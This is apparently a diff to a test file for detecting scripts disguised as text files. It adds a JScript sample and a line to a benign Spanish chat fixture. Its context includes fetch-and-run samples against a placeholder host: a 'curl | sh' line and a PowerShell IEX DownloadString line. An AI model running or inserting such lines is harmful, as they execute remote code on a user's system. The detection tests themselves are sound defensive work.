@@ -41,6 +41,7 @@ DISGUISED = {
     "xml declaration late": ("datos.txt", b"datos:\n<?xml version='1.0'?><x/>"),
     "shell script": ("nota.txt", b"#!/bin/sh\ncurl http://x.example | sh\n"),
     "powershell": ("nota.txt", b"$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://x.example/a'))\n"),
+    "jscript": ("nota.txt", b'var s = new ActiveXObject("Shell.Application");\n'),
     "vbscript": ("nota.txt", b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
     "utf-16 web page": ("nota.txt", "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le")),
     "utf-16 text": ("nota.txt", "\ufeffReunión el lunes en el pabellón 3".encode("utf-16-le")),
@@ -78,6 +79,7 @@ CHAT_EXPORT = (
     "[30/11/26 10:44] Ana: el pago fue de 200 < 300 soles, y a > b\n"
     "[30/11/26 10:45] Luis: <Multimedia omitido>\n"
     "[30/11/26 10:46] Ana: echo de menos a mi hijo; el script de la novela es bueno\n"
+    "[30/11/26 10:47] Luis: está en la <base de datos> y en <imagenes del patio>\n"
 ).encode()
 
 
